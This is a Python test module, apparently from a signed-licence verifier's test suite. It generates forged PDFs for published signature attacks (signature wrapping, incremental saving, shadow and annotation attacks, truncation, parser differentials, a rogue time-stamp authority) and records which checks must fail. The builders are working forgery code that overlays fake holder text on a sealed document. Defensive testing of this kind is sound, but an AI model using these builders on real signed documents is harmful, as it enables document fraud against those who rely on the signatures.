"""A generator of forgeries built from a freshly sealed licence, covering the published
attack classes on PDF signatures:

- Universal Signature Forgery (USF), Incremental Saving Attack (ISA) and Signature
  Wrapping Attack (SWA): Mladenov, Mainka, Meyer zu Selhausen, Grothe, Schwenk,
  "1 Trillion Dollar Refund: How To Spoof PDF Signatures", CCS 2019;
- shadow attacks (hide, replace, hide-and-replace): Mainka, Mladenov, Rohlmann,
  "Shadow Attacks: Hiding and Replacing Content in Signed PDFs", NDSS 2021;
- Evil Annotation and Sneaky Signature attacks on certified documents: Rohlmann, Mladenov,
  Mainka, Schwenk, "Breaking the Specification: PDF Certification", IEEE S&P 2021;
- truncation, re-signature with a self-made certificate, and parser differentials
  (duplicate object numbers, cross-reference entries pointing into the signature's gap,
  object streams that redefine signed objects, objects a reconstructing viewer would find
  where no cross-reference names them).

Each entry says what the verifier must answer: `invalid`, with exactly these failed
checks, and for the layout rules, which rule decided (verify.pdf_layout). A forgery that
is stopped by the layout or parser rules never reaches the later checks (the report then
holds only the trust-list freshness check and the failed one).

The genuine licence is one of the default level, PAdES B-LTA: the unsigned render, the
seal's signed revision, then one revision with the DSS and a document time-stamp over the
whole file. Every builder works on that too: changes inside the seal's revision are made
in place (so the document time-stamp breaks as well, but the rule that stops the forgery
decides first), incremental updates are appended after the last revision with object
numbers no revision uses, truncations cut into signed bytes. The same expectations hold
for a one-revision B-LT licence (older licences), against which the tests run them too.

Import as `import forgery_catalogue` (tests/verify is on sys.path for its test modules)."""

from __future__ import annotations

import io
import re
import zlib
from collections.abc import Callable
from dataclasses import dataclass

import verify_forgeries as forge
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.reader import PdfFileReader

LAYOUT = frozenset({"signature.layout"})
PARSERS = frozenset({"document.parsers_agree"})
MODIFIED = frozenset({"signature.modifications"})
UNREADABLE = frozenset({"signature.integrity"})


@dataclass(frozen=True)
class Forgery:
    name: str
    attack: str  # USF, ISA, SWA, shadow, EAA, SSA, truncation, differential
    build: Callable[[bytes], bytes]
    failed: frozenset[str]
    rule: str | None = None  # the layout rule that must decide, for LAYOUT forgeries
    # Built against what follows the seal's revision (a B-LTA licence's DSS and document
    # time-stamp); a one-revision B-LT licence has nothing there to build it on.
    needs_later_revisions: bool = False

    def __str__(self) -> str:
        return self.name


# -- the genuine file's layout ---------------------------------------------------------------
@dataclass(frozen=True)
class Layout:
    a: int
    b: int
    c: int
    d: int
    sig_offset: int  # where "N 0 obj" of the signature dictionary starts
    sig_number: int
    startxref: int  # of the signed revision
    size: int  # the signed revision's trailer /Size
    next_number: int  # the whole file's trailer /Size: the first number no revision uses

    @property
    def end(self) -> int:
        return self.c + self.d


def layout_of(pdf: bytes) -> Layout:
    """The seal's signature (the first /ByteRange: the licence's signed revision; a B-LTA
    licence has later revisions, its validation data and document time-stamp)."""
    match = re.search(rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]", pdf)
    assert match is not None
    a, b, c, d = (int(v) for v in match.groups())
    headers = list(re.finditer(rb"(\d+) 0 obj", pdf[:b]))
    sig = headers[-1]
    startxref = int(re.findall(rb"startxref\s+(\d+)", pdf[: c + d])[-1])
    size = int(re.findall(rb"/Size (\d+)", pdf[: c + d])[-1])
    next_number = int(PdfFileReader(io.BytesIO(pdf), strict=False).trailer["/Size"])
    return Layout(a, b, c, d, sig.start(), int(sig.group(1)), startxref, size,
                  max(size, next_number))


def signed_revision(pdf: bytes) -> bytes:
    """The file up to the end of the seal's signed revision: what an attacker keeps when
    dropping the later revisions (validation data, document time-stamps), which the seal
    does not cover."""
    return pdf[:layout_of(pdf).end]


def _same_length(pdf: bytes, start: int, end: int, new: bytes) -> bytes:
    assert len(new) <= end - start, (len(new), end - start)
    return pdf[:start] + new + b" " * (end - start - len(new)) + pdf[end:]


def _contents_span(pdf: bytes) -> tuple[int, int]:
    """From the /Contents key to the end of its hex string."""
    layout = layout_of(pdf)
    start = pdf.rindex(b"/Contents", 0, layout.b)
    return start, layout.c


def _byte_range_span(pdf: bytes) -> tuple[int, int]:
    match = re.search(rb"/ByteRange\s*\[[^\]]*\]", pdf)
    return match.start(), match.end()


def _literal(raw: bytes) -> bytes:
    out = bytearray(b"(")
    for ch in raw:
        if ch in b"()\\":
            out += b"\\" + bytes([ch])
        elif ch == 0x0D:
            out += b"\\r"
        else:
            out.append(ch)
    return bytes(out + b")")


def _der_length(der: bytes) -> int:
    """The length of the DER value at the start of ``der`` (its padding excluded)."""
    first = der[1]
    if first < 0x80:
        return 2 + first
    count = first & 0x7F
    return 2 + count + int.from_bytes(der[2:2 + count], "big")


def _dictionary_tail(pdf: bytes, byte_range: tuple[int, int, int, int] | None = None
                     ) -> bytes:
    """What follows /Contents in the signature dictionary, up to its endobj, with the
    /ByteRange given (default: the genuine one)."""
    layout = layout_of(pdf)
    tail = pdf[layout.c:layout.end]
    tail = tail[:tail.index(b"endobj") + len(b"endobj")]
    if byte_range is not None:
        tail = re.sub(rb"/ByteRange\s*\[[^\]]*\]",
                      "/ByteRange [{} {} {} {}]".format(*byte_range).encode(), tail)
    return tail


def _page(pdf: bytes) -> tuple[PdfFileReader, generic.Reference]:
    reader = PdfFileReader(io.BytesIO(pdf), strict=False)
    return reader, reader.root["/Pages"]["/Kids"].raw_get(0).reference


def _serialise(obj: generic.PdfObject) -> bytes:
    out = io.BytesIO()
    obj.write_to_stream(out, None)
    return out.getvalue()


FORGED_TEXT = b"BT /F1 28 Tf 90 620 Td (FORGED HOLDER: ZHANG SAN) Tj ET"


def _stream(number: int, data: bytes) -> bytes:
    return (f"{number} 0 obj\n<< /Length {len(data)} >>\nstream\n".encode() + data
            + b"\nendstream\nendobj\n")


def _page_with_contents(pdf: bytes, number: int, contents_number: int) -> bytes:
    """The first page's dictionary, its /Contents pointing at ``contents_number``, as the
    body of object ``number``."""
    reader, page_ref = _page(pdf)
    page = generic.DictionaryObject(dict(page_ref.get_object().items()))
    page["/Contents"] = generic.IndirectObject(contents_number, 0, reader)
    return f"{number} 0 obj\n".encode() + _serialise(page) + b"\nendobj\n"


def _xref_table(entries: dict[int, int], size: int, trailer: bytes) -> bytes:
    """A classic cross-reference section of one subsection per run of numbers."""
    out = bytearray(b"xref\n")
    numbers = sorted(entries)
    runs: list[list[int]] = []
    for n in numbers:
        if runs and runs[-1][-1] == n - 1:
            runs[-1].append(n)
        else:
            runs.append([n])
    for run in runs:
        out += f"{run[0]} {len(run)}\n".encode()
        for n in run:
            out += b"%010d 00000 n \n" % entries[n]
    out += b"trailer\n<< /Size %d " % size + trailer + b" >>\n"
    return bytes(out)


def _trailer_names(reader: PdfFileReader) -> str:
    """The trailer's /Root and, if the file has one, /Info, as written in a trailer (a
    PDF/A-4 licence has no /Info)."""
    names = f"/Root {reader.trailer.raw_get('/Root').reference.idnum} 0 R"
    if "/Info" in reader.trailer:
        names += f" /Info {reader.trailer.raw_get('/Info').reference.idnum} 0 R"
    return names


def append_revision(pdf: bytes, bodies: dict[int, bytes], *, prev: int | None = None,
                    offsets: dict[int, int] | None = None, between: bytes = b"",
                    trailer_extra: bytes = b"", with_xref: bool = True) -> bytes:
    """A hand-written incremental update: ``bodies`` (object number -> "N 0 obj ...
    endobj" bytes) appended after the file, then (``with_xref``) a classic xref section
    whose trailer names the file's /Root (and /Info, if it has one) and ``prev`` (default:
    the file's last startxref). ``offsets`` overrides entries (a lie about where an object is)."""
    reader = PdfFileReader(io.BytesIO(pdf), strict=False)
    root = _trailer_names(reader)
    size = int(reader.trailer["/Size"])
    last = int(re.findall(rb"startxref\s+(\d+)", pdf)[-1])
    out = bytearray(pdf if pdf.endswith(b"\n") else pdf + b"\n")
    entries = {}
    for number, body in bodies.items():
        entries[number] = len(out)
        out += body
    out += between
    entries.update(offsets or {})
    if not with_xref:
        return bytes(out)
    start = len(out)
    trailer = (f"{root} /Prev {last if prev is None else prev} "
               .encode() + trailer_extra)
    out += _xref_table(entries, max([size, *[n + 1 for n in entries]]), trailer)
    out += b"startxref\n%d\n%%%%EOF\n" % start
    return bytes(out)


def _overlay_bodies(pdf: bytes) -> dict[int, bytes]:
    """A new content stream for the first page and the page redefined to show it."""
    _, page_ref = _page(pdf)
    size = layout_of(pdf).next_number
    return {size: _stream(size, FORGED_TEXT),
            page_ref.idnum: _page_with_contents(pdf, page_ref.idnum, size)}


# -- Universal Signature Forgery: the signature dictionary's values gutted -----------------------
def _usf_contents(new: bytes) -> Callable[[bytes], bytes]:
    def build(pdf: bytes) -> bytes:
        start, end = _contents_span(pdf)
        return _same_length(pdf, start, end, new)
    return build


def _usf_byte_range(new: Callable[[Layout], bytes]) -> Callable[[bytes], bytes]:
    def build(pdf: bytes) -> bytes:
        start, end = _byte_range_span(pdf)
        return _same_length(pdf, start, end, new(layout_of(pdf)))
    return build


def usf_incremental(value: bytes) -> Callable[[bytes], bytes]:
    """USF in a new revision: the signature dictionary redefined with ``value`` as its
    /Contents, and the page overlaid in the same revision."""
    def build(pdf: bytes) -> bytes:
        layout = layout_of(pdf)
        reader = PdfFileReader(io.BytesIO(pdf), strict=False)
        sig = reader.get_object(generic.Reference(layout.sig_number, 0))
        keys = b" ".join(k.encode() + b" " + _serialise(v) for k, v in sig.items()
                         if k not in ("/Contents",))
        body = (f"{layout.sig_number} 0 obj\n<< ".encode() + keys + b" /Contents " + value
                + b" >>\nendobj\n")
        return append_revision(pdf, {layout.sig_number: body, **_overlay_bodies(pdf)})
    return build


# -- Incremental Saving Attack variants --------------------------------------------------------
def isa_without_xref(pdf: bytes) -> bytes:
    """Objects appended after %%EOF with no cross-reference section: a viewer that
    rebuilds the table by scanning shows them."""
    return append_revision(pdf, _overlay_bodies(pdf), with_xref=False)


def isa_hand_written(pdf: bytes) -> bytes:
    """A plain incremental update by hand (classic xref, /Prev to the signed one)."""
    return append_revision(pdf, _overlay_bodies(pdf))


def isa_prev_skipping_the_signed_revision(pdf: bytes) -> bytes:
    """The new revision's /Prev points at the revision before the signed one."""
    reader = PdfFileReader(io.BytesIO(pdf), strict=False)
    first = reader.xrefs.get_startxref_for_revision(0)
    return append_revision(pdf, _overlay_bodies(pdf), prev=first)


def isa_prev_pointing_at_itself(pdf: bytes) -> bytes:
    bodies = _overlay_bodies(pdf)
    probe = append_revision(pdf, bodies)
    own = int(re.findall(rb"startxref\s+(\d+)", probe)[-1])
    return append_revision(pdf, bodies, prev=own)


def isa_forked_history(pdf: bytes) -> bytes:
    """An appended copy of the signed revision's cross-reference section, mapping the page
    to a forged body, and a last revision whose /Prev points at the copy: the file's
    history forks from the signed one at the signed revision."""
    reader = PdfFileReader(io.BytesIO(pdf), strict=False)
    first = reader.xrefs.get_startxref_for_revision(0)
    entries = {ref.idnum: reader.xrefs.get_historical_ref(ref, 1)
               for ref in reader.xrefs.explicit_refs_in_revision(1)}
    bodies = _overlay_bodies(pdf)
    out = bytearray(pdf)
    for number, body in bodies.items():
        entries[number] = len(out)
        out += body
    copy_at = len(out)
    root = _trailer_names(reader)
    out += _xref_table(entries, max(entries) + 1,
                       f"{root} /Prev {first}".encode())
    out += b"startxref\n%d\n%%%%EOF\n" % copy_at
    spare = max(entries) + 1
    return append_revision(bytes(out), {spare: f"{spare} 0 obj\nnull\nendobj\n".encode()},
                           prev=copy_at)


def isa_xref_stream(pdf: bytes) -> bytes:
    """The update's cross-reference data as an (uncompressed) xref stream."""
    reader = PdfFileReader(io.BytesIO(pdf), strict=False)
    bodies = _overlay_bodies(pdf)
    out = bytearray(pdf)
    entries = {}
    for number, body in bodies.items():
        entries[number] = len(out)
        out += body
    xref_number = max([int(reader.trailer["/Size"]), *[n + 1 for n in entries]])
    entries[xref_number] = len(out)
    rows = b"".join(b"\x01" + entries[n].to_bytes(4, "big") + b"\x00" for n in sorted(entries))
    index = b" ".join(b"%d 1" % n for n in sorted(entries))
    last = int(re.findall(rb"startxref\s+(\d+)", pdf)[-1])
    root = _trailer_names(reader)
    start = len(out)
    out += (f"{xref_number} 0 obj\n<< /Type /XRef /Size {xref_number + 1} /W [1 4 1] "
            f"/Index [".encode() + index + f"] {root} /Prev {last} "
            f"/Length {len(rows)} >>\nstream\n".encode() + rows + b"\nendstream\nendobj\n")
    out += b"startxref\n%d\n%%%%EOF\n" % start
    return bytes(out)


# -- Signature Wrapping Attack variants ----------------------------------------------------------
def swa_literal_contents(pdf: bytes) -> bytes:
    """The variant that passed before the layout rules. /Contents written as a literal
    string (one byte per byte instead of two hex digits) frees half of a gap that the
    attacker widens (the value read is the CMS plus zero padding, so pyHanko's "entire
    file" arithmetic still holds); the signature dictionary's tail, now read from the
    gap, carries a /ByteRange whose second part is the genuine signed tail moved further
    on. The signed tail's startxref thereby points into the gap, at the attacker's own
    cross-reference table, which maps the page to the attacker's objects. Built on the
    signed revision alone (a B-LTA licence's later revisions dropped): moving the tail
    moves everything after it, and a file that ends with the signed revision is what
    pyHanko's "entire file" takes at its word."""
    pdf = signed_revision(pdf)
    layout = layout_of(pdf)
    b, c, d = layout.b, layout.c, layout.d
    cms = bytes.fromhex(pdf[b + 1:c - 1].decode())
    padded_length = (layout.startxref + 4000 - b) // 2 + 1
    gap = 2 * padded_length + 2
    new_c = b + gap
    tail = pdf[c:c + d]
    dict_tail = tail[:tail.index(b"endobj") + len(b"endobj")]
    dict_tail = re.sub(rb"/ByteRange\s*\[[^\]]*\]",
                       f"/ByteRange [0 {b} {new_c} {d}]".encode(), dict_tail)
    body = bytearray(pdf[:b]) + _literal(cms + b"\x00" * (padded_length - len(cms)))
    body += b"\n" + dict_tail + b"\n"
    ours = {}
    for number, obj in _overlay_bodies(pdf).items():
        ours[number] = len(body)
        body += obj
    assert len(body) < layout.startxref
    body += b" " * (layout.startxref - len(body))
    reader = PdfFileReader(io.BytesIO(pdf), strict=False)
    entries = {}
    for revision in range(reader.xrefs.total_revisions):
        for ref in reader.xrefs.explicit_refs_in_revision(revision):
            location = reader.xrefs[ref]
            if isinstance(location, int):
                entries[ref.idnum] = location + (new_c - c if location >= c else 0)
    entries.update(ours)
    root = _trailer_names(reader)
    body += _xref_table(entries, max(entries) + 1, root.encode())
    assert len(body) <= new_c
    body += b" " * (new_c - len(body)) + tail
    return bytes(body)


def swa_literal_contents_in_place(pdf: bytes) -> bytes:
    """/Contents as a literal string holding the CMS and its zero padding (so the size
    arithmetic of "entire file" holds and pyHanko accepts the signature), the rest of the
    dictionary written after it, then objects in the freed half of the gap: the signed
    cross-reference data still names the genuine objects, a viewer that scans for objects
    finds these."""
    layout = layout_of(pdf)
    raw = bytes.fromhex(pdf[layout.b + 1:layout.c - 1].decode())
    new = (_literal(raw) + b"\n" + _dictionary_tail(pdf) + b"\n"
           + b"".join(_overlay_bodies(pdf).values()) + b"%")
    return _same_length(pdf, layout.b, layout.c, new)


def swa_hex_with_whitespace(pdf: bytes) -> bytes:
    """The hex string spread with white space over the gap (the padding dropped)."""
    layout = layout_of(pdf)
    raw = bytes.fromhex(pdf[layout.b + 1:layout.c - 1].decode())
    digits = raw[:_der_length(raw)].hex().encode()
    spread = b"<" + b" ".join(digits[i:i + 64] for i in range(0, len(digits), 64)) + b">"
    return _same_length(pdf, layout.b, layout.c, spread)


def swa_hex_then_objects(pdf: bytes) -> bytes:
    """A shorter hex string in the gap (the padding dropped), the rest of the dictionary,
    then objects."""
    layout = layout_of(pdf)
    raw = bytes.fromhex(pdf[layout.b + 1:layout.c - 1].decode())
    new = (b"<" + raw[:_der_length(raw)].hex().encode() + b">\n" + _dictionary_tail(pdf)
           + b"\n" + b"".join(_overlay_bodies(pdf).values()) + b"%")
    return _same_length(pdf, layout.b, layout.c, new)


def swa_second_contents_key(pdf: bytes) -> bytes:
    """A duplicate /Contents key after the genuine one, written into the spaces that pad
    the /ByteRange: parsers differ on which of the two wins."""
    _, end = _byte_range_span(pdf)
    extra = b" /Contents <00>"
    assert pdf[end:end + len(extra)] == b" " * len(extra)
    return pdf[:end] + extra + pdf[end + len(extra):]


def swa_byte_range_indirect(pdf: bytes) -> bytes:
    """/ByteRange as a reference to an array defined in a new revision."""
    layout = layout_of(pdf)
    reader = PdfFileReader(io.BytesIO(pdf), strict=False)
    sig = reader.get_object(generic.Reference(layout.sig_number, 0))
    array_number = layout.next_number + 5
    keys = b" ".join(k.encode() + b" " + _serialise(v) for k, v in sig.items()
                     if k != "/ByteRange")
    body = (f"{layout.sig_number} 0 obj\n<< ".encode() + keys
            + f" /ByteRange {array_number} 0 R >>\nendobj\n".encode())
    array = (f"{array_number} 0 obj\n[0 {layout.b} {layout.c} {layout.d}]\nendobj\n"
             .encode())
    return append_revision(pdf, {layout.sig_number: body, array_number: array})


# -- truncation ----------------------------------------------------------------------------
def truncate_in_the_gap(pdf: bytes) -> bytes:
    return pdf[:layout_of(pdf).b + 1000]


def cut_last_byte(pdf: bytes) -> bytes:
    """The file's last byte removed: the end of what the last signature (of a B-LTA
    licence: its document time-stamp) covers."""
    return pdf[:-1]


def cut_last_byte_of_the_seal(pdf: bytes) -> bytes:
    """The last byte of the seal's signed revision removed, the later revisions kept: the
    seal's byte range now ends one byte into the next revision."""
    end = layout_of(pdf).end
    assert end < len(pdf), "needs a licence with revisions after the seal's"
    return pdf[:end - 1] + pdf[end:]


# -- parser differentials -----------------------------------------------------------------------
def duplicate_object_number(pdf: bytes) -> bytes:
    """A benign-looking update whose bytes hold two bodies of the page's object number:
    the cross-reference names the genuine copy, a scanning viewer takes the last."""
    _reader, page_ref = _page(pdf)
    genuine_page = page_ref.get_object()
    size = layout_of(pdf).next_number
    copy = f"{page_ref.idnum} 0 obj\n".encode() + _serialise(genuine_page) + b"\nendobj\n"
    forged = _page_with_contents(pdf, page_ref.idnum, size)
    return append_revision(pdf, {page_ref.idnum: copy},
                           between=_stream(size, FORGED_TEXT) + forged)


def xref_entry_into_the_gap(pdf: bytes) -> bytes:
    """A later revision whose entry for the page points into the signature's gap."""
    layout = layout_of(pdf)
    _, page_ref = _page(pdf)
    return append_revision(pdf, {}, offsets={page_ref.idnum: layout.b + 100})


def object_stream_redefining_the_page(pdf: bytes) -> bytes:
    """A later revision (xref stream) whose object stream redefines the first page."""
    reader, page_ref = _page(pdf)
    size = layout_of(pdf).next_number
    content_number, objstm_number, xref_number = size, size + 1, size + 2
    page = generic.DictionaryObject(dict(page_ref.get_object().items()))
    page["/Contents"] = generic.IndirectObject(content_number, 0, reader)
    inner = _serialise(page)
    header = f"{page_ref.idnum} 0 ".encode()
    packed = zlib.compress(header + inner)
    out = bytearray(pdf)
    offsets = {content_number: len(out)}
    out += _stream(content_number, FORGED_TEXT)
    offsets[objstm_number] = len(out)
    out += (f"{objstm_number} 0 obj\n<< /Type /ObjStm /N 1 /First {len(header)} "
            f"/Filter /FlateDecode /Length {len(packed)} >>\nstream\n".encode() + packed
            + b"\nendstream\nendobj\n")
    offsets[xref_number] = len(out)
    rows = {n: b"\x01" + offsets[n].to_bytes(4, "big") + b"\x00" for n in offsets}
    rows[page_ref.idnum] = b"\x02" + objstm_number.to_bytes(4, "big") + b"\x00"
    data = b"".join(rows[n] for n in sorted(rows))
    index = b" ".join(b"%d 1" % n for n in sorted(rows))
    last = int(re.findall(rb"startxref\s+(\d+)", pdf)[-1])
    root = _trailer_names(reader)
    start = len(out)
    out += (f"{xref_number} 0 obj\n<< /Type /XRef /Size {xref_number + 1} /W [1 4 1] "
            f"/Index [".encode() + index + f"] {root} /Prev {last} "
            f"/Length {len(data)} >>\nstream\n".encode() + data + b"\nendstream\nendobj\n")
    out += b"startxref\n%d\n%%%%EOF\n" % start
    return bytes(out)


def object_hidden_in_a_stream(pdf: bytes) -> bytes:
    """A later revision adds an unused stream whose data spells out a page object: no
    cross-reference names it, a scanning viewer finds it."""
    size = layout_of(pdf).next_number
    hidden = b"\n" + _stream(size + 1, FORGED_TEXT) + _page_with_contents(
        pdf, _page(pdf)[1].idnum, size + 1)
    return append_revision(pdf, {size: _stream(size, hidden)})


def object_in_a_comment_after_eof(pdf: bytes) -> bytes:
    return pdf + b"%" + b"".join(_overlay_bodies(pdf).values()).replace(b"\n", b" ") + b"\n"


def hybrid_reference_file(pdf: bytes) -> bytes:
    """A later revision whose classic table names nothing new, while the /XRefStm stream
    its trailer points at maps the page to forged objects: readers that honour hybrid
    references show the forgery, others the genuine page."""
    reader, page_ref = _page(pdf)
    size = layout_of(pdf).next_number
    content_number, xref_number = size, size + 1
    out = bytearray(pdf)
    offsets = {content_number: len(out)}
    out += _stream(content_number, FORGED_TEXT)
    offsets[page_ref.idnum] = len(out)
    out += _page_with_contents(pdf, page_ref.idnum, content_number)
    stream_at = len(out)
    rows = b"".join(b"\x01" + offsets[n].to_bytes(4, "big") + b"\x00" for n in sorted(offsets))
    index = b" ".join(b"%d 1" % n for n in sorted(offsets))
    out += (f"{xref_number} 0 obj\n<< /Type /XRef /Size {xref_number + 1} /W [1 4 1] "
            f"/Index [".encode() + index + f"] /Length {len(rows)} >>\nstream\n".encode()
            + rows + b"\nendstream\nendobj\n")
    last = int(re.findall(rb"startxref\s+(\d+)", pdf)[-1])
    root = _trailer_names(reader)
    start = len(out)
    out += (f"xref\n0 0\ntrailer\n<< /Size {xref_number + 1} {root} "
            f"/Prev {last} /XRefStm {stream_at} >>\nstartxref\n{start}\n%%EOF\n"
            .encode())
    return bytes(out)


def wrong_offsets_in_a_later_revision(pdf: bytes) -> bytes:
    """A later revision whose entries are off by a few bytes (lenient readers search)."""
    bodies = _overlay_bodies(pdf)
    at = len(pdf) + (0 if pdf.endswith(b"\n") else 1)
    offsets = {}
    for number, body in bodies.items():
        offsets[number] = at + 3
        at += len(body)
    return append_revision(pdf, bodies, offsets=offsets)


def second_trailer_after_eof(pdf: bytes) -> bytes:
    reader = PdfFileReader(io.BytesIO(pdf), strict=False)
    root = reader.trailer.raw_get("/Root").reference.idnum
    return pdf + f"trailer\n<< /Root {root} 0 R /Size 2 >>\n".encode()


def junk_after_eof(pdf: bytes) -> bytes:
    return pdf + b"garbage that is no revision\n"


def document_timestamp_by_a_stranger(pdf: bytes) -> bytes:
    """A document time-stamp (the B-LTA kind of later revision, which the difference
    analysis allows) made by a TSA of the forger's own: it must be judged, not waved
    through as an allowed update."""
    import datetime as dt

    from asn1crypto import keys as asn1_keys
    from asn1crypto import x509 as asn1_x509
    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import rsa
    from cryptography.x509.oid import ExtendedKeyUsageOID, NameOID
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
    from pyhanko.sign.signers.pdf_signer import PdfTimeStamper
    from pyhanko.sign.timestamps.dummy_client import DummyTimeStamper

    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)  # pyHanko's dummy
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "伪造时间戳服务")])
    now = dt.datetime.now(dt.UTC)
    certificate = (
        x509.CertificateBuilder().subject_name(name).issuer_name(name)
        .public_key(key.public_key()).serial_number(x509.random_serial_number())
        .not_valid_before(now - dt.timedelta(days=1))
        .not_valid_after(now + dt.timedelta(days=30))
        .add_extension(x509.ExtendedKeyUsage([ExtendedKeyUsageOID.TIME_STAMPING]),
                       critical=True)
        .sign(key, hashes.SHA256()))
    stamper = DummyTimeStamper(
        tsa_cert=asn1_x509.Certificate.load(certificate.public_bytes(
            serialization.Encoding.DER)),
        tsa_key=asn1_keys.PrivateKeyInfo.load(key.private_bytes(
            serialization.Encoding.DER, serialization.PrivateFormat.PKCS8,
            serialization.NoEncryption())))
    out = io.BytesIO()
    PdfTimeStamper(stamper).timestamp_pdf(IncrementalPdfFileWriter(io.BytesIO(pdf)),
                                          "sha256", output=out)
    return out.getvalue()


CATALOGUE: tuple[Forgery, ...] = (
    # USF: /Contents and /ByteRange missing, empty, null or wrong, in place
    Forgery("usf-contents-removed", "USF", _usf_contents(b""), UNREADABLE),
    Forgery("usf-contents-empty", "USF", _usf_contents(b"/Contents <>"), UNREADABLE),
    Forgery("usf-contents-null", "USF", _usf_contents(b"/Contents null"), UNREADABLE),
    Forgery("usf-contents-zeroed", "USF", forge.empty_contents, UNREADABLE),
    Forgery("usf-byte-range-removed", "USF", _usf_byte_range(lambda lay: b""), UNREADABLE),
    Forgery("usf-byte-range-empty", "USF", _usf_byte_range(lambda lay: b"/ByteRange []"),
            LAYOUT, "byte_range"),
    Forgery("usf-byte-range-null", "USF", _usf_byte_range(lambda lay: b"/ByteRange null"),
            LAYOUT, "byte_range"),
    Forgery("usf-byte-range-zeros", "USF",
            _usf_byte_range(lambda lay: b"/ByteRange [0 0 0 0]"), LAYOUT, "byte_range"),
    Forgery("usf-byte-range-shortened", "USF", forge.shrink_byte_range, LAYOUT,
            "signed_end"),
    Forgery("usf-byte-range-whole-file", "USF", _usf_byte_range(
        lambda lay: f"/ByteRange [0 {lay.end} {lay.end} 0]".encode()), LAYOUT, "byte_range"),
    Forgery("usf-incremental-contents-null", "USF", usf_incremental(b"null"), UNREADABLE),
    Forgery("usf-incremental-contents-empty", "USF", usf_incremental(b"<>"), UNREADABLE),
    # ISA
    Forgery("isa-overlay-page-content", "ISA", forge.overlay_page_content, MODIFIED),
    Forgery("isa-replace-attachment", "ISA", lambda pdf: forge.replace_attachment(
        pdf, {"名称": "冒名顶替有限公司"}), MODIFIED | {"licence.data_matches"}),
    Forgery("isa-hand-written-update", "ISA", isa_hand_written, MODIFIED),
    Forgery("isa-without-xref", "ISA", isa_without_xref, LAYOUT, "later"),
    Forgery("isa-prev-skipping-the-signed-revision", "ISA",
            isa_prev_skipping_the_signed_revision, UNREADABLE),
    Forgery("isa-prev-pointing-at-itself", "ISA", isa_prev_pointing_at_itself, UNREADABLE),
    Forgery("isa-xref-stream", "ISA", isa_xref_stream, MODIFIED),
    Forgery("isa-forked-history", "ISA", isa_forked_history, LAYOUT, "history"),
    # SWA
    Forgery("swa-literal-contents-moved-tail", "SWA", swa_literal_contents, LAYOUT, "gap"),
    Forgery("swa-literal-contents-in-place", "SWA", swa_literal_contents_in_place, LAYOUT,
            "gap"),
    Forgery("swa-hex-with-whitespace", "SWA", swa_hex_with_whitespace, LAYOUT, "gap"),
    Forgery("swa-hex-then-objects", "SWA", swa_hex_then_objects, LAYOUT, "gap"),
    Forgery("swa-byte-range-rewritten", "SWA", forge.signature_wrapping, UNREADABLE),
    Forgery("swa-duplicate-contents-key", "SWA", swa_second_contents_key, LAYOUT,
            "dictionary"),
    Forgery("swa-byte-range-indirect", "SWA", swa_byte_range_indirect, LAYOUT,
            "byte_range"),
    # shadow attacks
    Forgery("shadow-hide", "shadow", forge.hide_page_object, MODIFIED),
    Forgery("shadow-replace", "shadow", forge.replace_page_contents, MODIFIED),
    Forgery("shadow-hide-and-replace", "shadow", forge.hide_and_replace_page, MODIFIED),
    # certified documents
    Forgery("eaa-freetext", "EAA", lambda pdf: forge.cover_with_annotation(pdf, "/FreeText"),
            MODIFIED),
    Forgery("eaa-square", "EAA", lambda pdf: forge.cover_with_annotation(pdf, "/Square"),
            MODIFIED),
    Forgery("eaa-stamp", "EAA", lambda pdf: forge.cover_with_annotation(pdf, "/Stamp"),
            MODIFIED),
    Forgery("eaa-file-attachment", "EAA",
            lambda pdf: forge.cover_with_annotation(pdf, "/FileAttachment"), MODIFIED),
    Forgery("ssa-second-signature", "SSA", forge.add_second_signature,
            frozenset({"signature.count", "signature.modifications"})),
    Forgery("lta-document-timestamp-by-a-stranger", "ISA", document_timestamp_by_a_stranger,
            frozenset({"timestamp.document"})),
    # truncation
    Forgery("truncated-in-second-range", "truncation", forge.truncate_signed_range,
            UNREADABLE),
    Forgery("truncated-in-the-signature", "truncation", truncate_in_the_gap, UNREADABLE),
    Forgery("truncated-last-byte", "truncation", cut_last_byte, LAYOUT, "byte_range"),
    Forgery("truncated-last-byte-of-the-seal", "truncation", cut_last_byte_of_the_seal,
            UNREADABLE, needs_later_revisions=True),
    # parser differentials
    Forgery("differential-duplicate-object-number", "differential", duplicate_object_number,
            LAYOUT, "trailing"),
    Forgery("differential-xref-into-the-gap", "differential", xref_entry_into_the_gap,
            LAYOUT, "objects"),
    Forgery("differential-object-stream-redefines-page", "differential",
            object_stream_redefining_the_page, MODIFIED),
    Forgery("differential-object-hidden-in-a-stream", "differential",
            object_hidden_in_a_stream, LAYOUT, "trailing"),
    Forgery("differential-objects-in-a-comment-after-eof", "differential",
            object_in_a_comment_after_eof, LAYOUT, "later"),
    Forgery("differential-hybrid-reference", "differential", hybrid_reference_file, LAYOUT,
            "xref"),
    Forgery("differential-wrong-offsets", "differential", wrong_offsets_in_a_later_revision,
            LAYOUT, "objects"),
    Forgery("differential-second-trailer-after-eof", "differential", second_trailer_after_eof,
            LAYOUT, "later"),
    Forgery("differential-junk-after-eof", "differential", junk_after_eof, LAYOUT, "later"),
)
